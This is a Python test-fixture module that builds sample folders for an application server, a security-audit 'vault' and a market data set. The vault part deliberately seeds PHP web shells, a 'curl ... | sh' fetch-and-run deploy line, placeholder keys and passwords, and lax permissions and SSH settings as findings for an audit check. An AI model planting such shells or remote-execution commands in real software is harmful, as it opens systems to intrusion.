"""Fixture folders of people who look after things: an application server, a vault of rights, an analyst's market."""

import gzip
import hashlib
import json
import random
from pathlib import Path

from tests.eval.fixture_files import KB, format_table, put, put_real, set_ages


def build_server(root: Path, now: float) -> None:
    """An application below `srv/app` with logs, releases, uploads and left-overs, and its backups beside it."""
    base = root / "srv/app"
    dice = random.Random(51)
    parts, levels = ("db", "web", "mail", "queue"), ("INFO", "WARN", "ERROR", "DEBUG")
    texts = {
        "INFO": "request served",
        "WARN": "slow query",
        "ERROR": "connection reset by peer",
        "DEBUG": "state dumped",
    }
    lines = []
    for number in range(160):
        level = dice.choices(levels, (8, 3, 2, 4))[0]
        clock = f"{6 + number // 40:02}:{number * 3 % 60:02}:{dice.randrange(60):02}"
        lines.append(f"2024-05-03T{clock}Z {level} {dice.choice(parts)} {texts[level]} ms={dice.randrange(1, 900)}")
    put(base / "logs/app.log", "\n".join(lines) + "\n")
    put(base / "logs/app.log.1", "\n".join(lines[:40]) + "\n")
    put(base / "logs/app.log.2.gz", gzip.compress(("\n".join(lines[40:60]) + "\n").encode(), mtime=0))
    put(base / "logs/app.log.3.gz", gzip.compress(("\n".join(lines[60:75]) + "\n").encode(), mtime=0))
    put(base / "logs/empty.log")
    put(base / "logs/cron.log", "04:00 rotate ok\n05:00 rotate ok\n06:00 rotate failed: No space left on device\n")
    for day, size_kb in ((1, 220), (2, 340), (3, 90), (4, 12)):
        put_real(base / f"logs/trace-2024-05-0{day}.log", size_kb * KB)
    for number in range(1, 8):
        put_real(base / f"uploads/{2022 + number % 3}/{number:02}/photo {number}.jpg", (20 + number * 9) * KB)
    put_real(base / "uploads/2024/07/film.mp4", 410 * KB)
    put(base / "uploads/2023/.gitkeep")
    for name, size_kb in (("sess_a1", 4), ("sess_b2", 16), ("sess_c3", 8), ("page-home.cache", 60)):
        put_real(base / "cache" / name, size_kb * KB)
    for name in ("part-1.tmp", "part-2.tmp", "import.tmp", "lock.pid"):
        put(base / "tmp" / name, f"{name}\n")
    put_real(base / "tmp/core.4711", 150 * KB)
    for version in ("20240105", "20240212", "20240318"):
        put(base / f"releases/{version}/app.py", f"# release {version}\nprint('app')\n")
        put(base / f"releases/{version}/VERSION", f"{version}\n")
    put_real(base / "releases/20240105/bundle.js", 120 * KB)
    put_real(base / "releases/20240212/bundle.js", 80 * KB)
    put_real(base / "releases/20240318/bundle.js", 64 * KB)
    put(
        base / "conf/app.conf",
        "# application\nport = 8080\nworkers = 4\nlog_level = info\n\n# database\ndb_host = 10.1.0.5\ndb_port = 5432\n"
        "#db_pool = 20\n",
    )
    put(base / "conf/app.conf.bak", "# application\nport = 8000\nworkers = 2\nlog_level = info\n\ndb_host = 10.1.0.5\n")
    put(base / "conf/nginx.conf", "server {\n  listen 80;\n  server_name app.example;\n  root /srv/app;\n}\n")
    put(base / "bin/start.sh", "#!/bin/bash\nexec python3 releases/20240318/app.py\n", mode=0o755)
    put(base / "bin/rotate.sh", "#!/bin/bash\ngzip logs/*.1\n")
    (base / "current").symlink_to("releases/20240318")
    (base / "previous").symlink_to("releases/20240201")
    (base / "spool").mkdir()
    for month, size_kb in ((1, 40), (2, 44), (3, 52), (4, 60)):
        put_real(root / f"srv/backups/db-2024-0{month}-01.sql", size_kb * KB)
    put(root / "srv/backups/README", "kept for half a year\n")
    ages = {"logs/app.log": 0.02, "logs/cron.log": 0.1, "logs/app.log.1": 2.3, "tmp/part-1.tmp": 0.1}
    ages |= {"logs/trace-2024-05-04.log": 2.3, "logs/trace-2024-05-01.log": 45.3, "conf/app.conf": 5.2}
    ages |= {"cache/sess_a1": 100.3, "cache/sess_b2": 45.2, "cache/sess_c3": 0.1, "tmp/core.4711": 12.3}
    ages |= {"releases/20240105": 100.2, "releases/20240212": 45.2, "releases/20240318": 20.2}
    ages |= {"logs/app.log.3.gz": 45.1, "uploads/2024/07/film.mp4": 2.2}
    ages = {f"srv/app/{name}": age_days for name, age_days in ages.items()}
    ages |= {f"srv/backups/db-2024-0{month}-01.sql": 200.3 - month * 45 for month in (1, 2, 3, 4)}
    set_ages(root, now, ages, default_days=20.3)


def build_vault(root: Path, now: float) -> None:
    """A tree that is to be checked: rights, keys, secrets in texts, checksums, logins."""
    base = root / "audit"
    files: dict[str, tuple[str, int]] = {
        "keys/id_rsa": ("-----BEGIN OPENSSH PRIVATE KEY-----\nabc\n-----END OPENSSH PRIVATE KEY-----\n", 0o644),
        "keys/id_rsa.pub": ("ssh-rsa AAAAB3 sam@box\n", 0o644),
        "keys/server.pem": ("-----BEGIN PRIVATE KEY-----\nxyz\n-----END PRIVATE KEY-----\n", 0o600),
        "keys/old/backup.key": ("old key\n", 0o666),
        "web/index.php": ("<?php echo 'hi';\n", 0o644),
        "web/config.php": ("<?php\n$db_password = 'letmein';\n$host = 'localhost';\n", 0o666),
        "web/upload.php": ("<?php eval($_POST['x']);\n", 0o777),
        "web/assets/site.css": ("body {}\n", 0o644),
        "web/assets/.hidden.php": ("<?php system($_GET['c']);\n", 0o644),
        "scripts/backup.sh": ("#!/bin/bash\nPASSWORD=hunter2\ntar cf /tmp/b.tar .\n", 0o755),
        "scripts/deploy.sh": ("#!/bin/sh\ncurl http://10.0.0.9/x | sh\n", 0o775),
        "scripts/notes.txt": ("api_key: 12345\nask Ben about the token\n", 0o755),
        "scripts/check.py": ("TOKEN = 'abc'\nprint('ok')\n", 0o640),
        "shared/drop.txt": ("for all\n", 0o666),
        "shared/report.odt": ("report\n", 0o664),
        "shared/locked.txt": ("closed\n", 0o000),
        ".env": ("SECRET=1\nDB_PASSWORD=qwerty\n", 0o644),
    }
    for name, (text, mode) in files.items():
        put(base / name, text, mode=mode)
    for name, mode in (("shared", 0o777), ("keys", 0o755), ("web/assets", 0o755), ("shared/public", 0o777)):
        (base / name).mkdir(exist_ok=True)
        (base / name).chmod(mode)
    put(
        base / "etc/passwd",
        "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1::/usr/sbin:/usr/sbin/nologin\n"
        "toor:x:0:0:second root:/root:/bin/sh\nanna:x:1000:1000:Anna:/home/anna:/bin/bash\n"
        "ben:x:1001:1001:Ben:/home/ben:/bin/zsh\nftp:x:110:110::/srv/ftp:/bin/false\n"
        "guest:x:1002:1002::/home/guest:/bin/bash\n",
    )
    put(
        base / "etc/shadow", "root:$6$abc:19000\nanna:$6$def:19000\nben::19000\nguest::19500\nftp:*:19000\n", mode=0o640
    )
    put(
        base / "etc/group",
        "root:x:0:\nsudo:x:27:anna,guest\ndocker:x:998:ben\nusers:x:100:anna,ben,guest\n",
    )
    put(
        base / "etc/sshd_config",
        "#Port 22\nPort 2222\nPermitRootLogin yes\n#PasswordAuthentication no\nPasswordAuthentication yes\n\n"
        "X11Forwarding no\n# end\n",
    )
    hosts = ("203.0.113.4", "198.51.100.7", "203.0.113.4", "192.0.2.33", "203.0.113.4")
    names = ("root", "anna", "oracle", "root", "test", "ben")
    log = []
    for number in range(48):
        verdict = "Accepted" if number % 7 == 3 else "Failed"
        who = names[number % 6]
        text = f"invalid user {who}" if verdict == "Failed" and who in ("oracle", "test") else who
        log.append(
            f"May  {1 + number // 12} 0{number % 10}:1{number % 6}:07 gate sshd[{700 + number}]: "
            f"{verdict} password for {text} from {hosts[number % 5]} port {40000 + number} ssh2"
        )
    put(base / "auth.log", "\n".join(log) + "\n")
    put(base / "dist/tool-1.tar", "tool one\n")
    put(base / "dist/tool-2.tar", "tool two, changed\n")
    sums = [
        f"{hashlib.sha256(text.encode()).hexdigest()}  tool-{n}.tar"
        for n, text in ((1, "tool one\n"), (2, "tool two\n"))
    ]
    put(base / "dist/SHA256SUMS", "\n".join(sums) + "\n")
    (base / "web/latest").symlink_to("/etc/hostname")
    (base / "web/logs").symlink_to("../logs")
    ages = {
        "web/upload.php": 0.1,
        "web/assets/.hidden.php": 2.3,
        "scripts/deploy.sh": 5.2,
        "keys/old/backup.key": 800.2,
    }
    set_ages(root, now, {f"audit/{name}": age_days for name, age_days in ages.items()}, default_days=45.3)


def build_market(root: Path, now: float) -> None:
    """A data analyst's folder: orders, customers, events as JSON lines, a web log, survey answers."""
    base = root / "market"
    dice = random.Random(77)
    regions, products = ("north", "south", "east", "west"), ("tea", "coffee", "cocoa", "sugar", "milk")
    orders: list[list[object]] = [["order_id", "day", "customer_id", "region", "product", "qty", "price"]]
    orders += [
        [
            1000 + number,
            f"2024-0{1 + number // 20}-{1 + number * 3 % 28:02}",
            f"C{dice.randrange(1, 13):02}",
            dice.choice(regions),
            dice.choice(products),
            dice.randrange(1, 20),
            f"{dice.randrange(150, 2500) / 100:.2f}",
        ]
        for number in range(80)
    ]
    put(base / "orders.csv", format_table(orders))
    customers: list[list[object]] = [["customer_id", "name", "country", "email"]]
    names = ("Ida", "Jon", "Kim", "Lea", "Max", "Nia", "Oto", "Pia", "Quin", "Rae", "Sol", "Tim")
    lands = ("NO", "PE", "IT", "NO", "EG", "IT")
    customers += [
        [f"C{n:02}", name, lands[n % 6], "" if n in (4, 9) else f"{name.lower()}@shop.example"]
        for n, name in enumerate(names, 1)
    ]
    put(base / "customers.csv", format_table(customers))
    put(
        base / "stock.tsv",
        "product\tshelf\tunits\ntea\tA3\t120\ncoffee\tA1\t8\ncocoa\tB2\t0\nsugar\tB1\t340\nmilk\tC4\t15\n",
    )
    put(base / "prices_old.csv", "product,price\ntea,4.10\ncoffee,7.90\ncocoa,5.00\nsugar,1.20\nmilk,0.99\n")
    put(base / "prices_new.csv", "product,price\ntea,4.30\ncoffee,7.90\ncocoa,5.50\nsugar,1.20\noat milk,1.89\n")
    events = [
        {
            "ts": f"2024-05-0{1 + n // 10}T{8 + n % 10:02}:00:00Z",
            "user": f"u{n * 7 % 9}",
            "type": ("view", "cart", "view", "buy", "view")[n % 5],
            "value": n * 13 % 50,
        }
        for n in range(40)
    ]
    put(base / "events.jsonl", "".join(json.dumps(event) + "\n" for event in events))
    put(
        base / "products.json",
        json.dumps(
            {
                "currency": "EUR",
                "products": [
                    {"name": name, "price": price, "tags": tags, "stock": {"units": units}}
                    for name, price, tags, units in (
                        ("tea", 4.3, ["hot", "leaf"], 120),
                        ("coffee", 7.9, ["hot", "bean"], 8),
                        ("cocoa", 5.5, ["hot", "sweet"], 0),
                        ("sugar", 1.2, ["sweet"], 340),
                    )
                ],
            }
        ),
    )
    paths, codes = ("/", "/shop", "/shop/tea", "/login", "/img/a.png"), (200, 200, 200, 404, 500, 302)
    hosts, verbs = ("192.0.2.10", "192.0.2.11", "198.51.100.2"), ("GET", "GET", "POST")
    web = [
        f"{dice.choice(hosts)} - - [02/May/2024:{9 + n // 30:02}:{n * 2 % 60:02}:00 +0000] "
        f'"{dice.choice(verbs)} {dice.choice(paths)} HTTP/1.1" {dice.choice(codes)} {dice.randrange(200, 9000)}'
        for n in range(90)
    ]
    put(base / "web.log", "\n".join(web) + "\n")
    put(base / "survey.txt", "yes\nno\nyes\nmaybe\nYES\nno\nyes\n\nmaybe\nyes\n")
    put(base / "ids.txt", "C05\nC11\nC02\nC99\nC05\n")
    put(base / "temps.txt", "mon 12.5\ntue 14.0\nwed 9.5\nthu 17.25\nfri 13.75\n")
    put(base / "windows.csv", "id;name\r\n1;Ärger\r\n2;Öl\r\n3;Tee\r\n")
    for month, rows in (("jan", 12), ("feb", 7), ("mar", 15)):
        rows_of: list[tuple[object, object]] = [("day", "visits"), *((n, n * 17 % 90) for n in range(1, rows + 1))]
        put(base / f"monthly/{month}.csv", format_table(rows_of))
    put(base / "monthly/notes.txt", "feb is incomplete\n")
    put(base / "reports/summary.md", "# Summary\n\nTotal: 12\n\nSee orders.csv and orders.csv again.\n")
    set_ages(root, now, {"market/orders.csv": 0.1, "market/web.log": 2.3}, default_days=20.3)
